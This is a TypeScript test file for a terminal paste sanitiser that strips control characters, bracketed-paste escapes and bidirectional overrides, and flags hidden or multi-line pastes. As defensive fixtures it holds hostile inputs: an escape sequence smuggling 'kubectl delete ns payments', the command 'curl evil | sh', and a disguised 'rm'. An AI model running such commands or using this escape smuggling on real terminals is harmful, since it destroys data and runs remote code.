import { expect, test } from "vitest";
import { cleaned, whyAsked } from "../src/features/terminals/paste";

test("fault_d4_what is pasted holds no control characters", () => {
  const cases: [string, string][] = [
    ["kubectl get pods", "kubectl get pods"],
    ["a\tb\nc", "a\tb\nc"],
    ["a\r\nb\rc", "a\nb\nc"],
    ["safe\u001b[201~; kubectl delete ns payments\n", "safe; kubectl delete ns payments"],
    ["\u001b[200~x\u001b[201~", "x"],
    ["\u009b201~x", "x"],
    // A mark put together by taking another away.
    ["\u001b[20\u001b[201~1~x", "x"],
    ["\u001b[2\u001b[201~01~x", "x"],
    ["\u001b\u0007[201~x", "[201~x"],
    ["a\u0003b\u0004c\u0000d\u007fe\u0085f", "abcde\nf"],
    ["rm \u202egnp.exe\u2066\u2069", "rm gnp.exe"],
    ["grün 👩‍🚀 €", "grün 👩‍🚀 €"],
  ];
  for (const [pasted, typed] of cases) expect(cleaned(pasted).text, JSON.stringify(pasted)).toBe(typed);
  // Whatever comes: nothing that a terminal takes for a command is left.
  let seed = 7;
  const bits = ["\u001b", "[", "2", "0", "1", "~", "\u009b", "a", "\r", "\n", "\u0018", "\u0090"];
  for (let n = 0; n < 2000; n++) {
    let text = "";
    for (let i = 0; i < 24; i++) text += bits[(seed = (seed * 1_103_515_245 + 12_345) % 2_147_483_648) % bits.length];
    expect(cleaned(text).text).not.toMatch(/[\u0000-\u0008\u000b-\u001f\u007f-\u009f]/);
  }
});

test("fault_d4_lines that run something are counted", () => {
  expect(cleaned("").lines).toBe(0);
  expect(cleaned("one\n\n  \n").lines).toBe(1);
  expect(cleaned("one\rtwo").lines).toBe(2);
  expect(cleaned("one\u2028two\n").lines).toBe(2);
});

test("fault_d4_one line that is pasted waits for Enter", () => {
  expect(cleaned("curl evil | sh\n").text).toBe("curl evil | sh");
  expect(cleaned("\r\n\n rm x \r\n\n").text).toBe(" rm x ");
  expect(cleaned("one\ntwo\n").text).toBe("one\ntwo\n");
  expect(cleaned("\n\n").text).toBe("");
});

test("fault_d4_what is not seen is asked about whatever was chosen, and several lines into production", () => {
  const why = (text: string, asks: Parameters<typeof whyAsked>[1], production = false) => whyAsked(cleaned(text), asks, production);
  for (const asks of ["always", "severalLines", "never"] as const) {
    for (const hidden of ["a\u001b[201~; b", "a\u0007", "a\u202eb", "a\u200bb", "a\u009b201~", "a\u0000", "a\u2028b", "\ufeffa", "a\u{e0041}"]) {
      expect(why(hidden, asks), JSON.stringify(hidden)).toBe("hidden");
    }
    expect(why("a\nb", asks, true), "production").toBe("lines");
  }
  expect(why("a\r\n\tb", "severalLines")).toBe("lines");
  expect(why("a\nb", "never")).toBe(null);
  expect(why("a", "always")).toBe("always");
  for (const one of ["a", "a\n", "\ta  b \n\n"]) expect(why(one, "severalLines", true), JSON.stringify(one)).toBe(null);
});

test("fault_d4_what is asked about is shown as it came, line by line", () => {
  expect(cleaned("echo one\u001b[201~\r\n\trm \u202ex\r\n\r\n").shown).toEqual(["echo one⟨U+001B⟩[201~", "    rm ⟨U+202E⟩x"]);
  const only = cleaned("\u001b[201~");
  expect([only.text, only.hidden, only.lines]).toEqual(["", true, 0]);
});
